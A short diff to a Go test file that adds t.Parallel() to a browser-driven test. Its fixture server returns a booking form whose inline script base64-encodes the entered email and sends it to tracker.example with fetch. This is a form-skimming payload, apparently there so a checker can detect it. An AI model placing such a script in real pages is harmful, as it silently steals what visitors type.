@@ -18,6 +18,7 @@ import (
 // visitor's browser would warn of is told.
 func TestASiteOverTLSIsReadToo(t *testing.T) {
 	needsBrowser(t)
+	t.Parallel()
 	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		if r.Host == "harbor.example" && r.URL.Path == "/book" {
 			fmt.Fprint(w, `<title>Book</title><form><label>E-mail <input name="email" type="email"></label><button>Send</button></form><script>document.querySelector('input').onchange=async (e)=>{fetch('https://tracker.example/c',{method:'POST',mode:'no-cors',keepalive:true,body:btoa(e.target.value)})}</script>`)
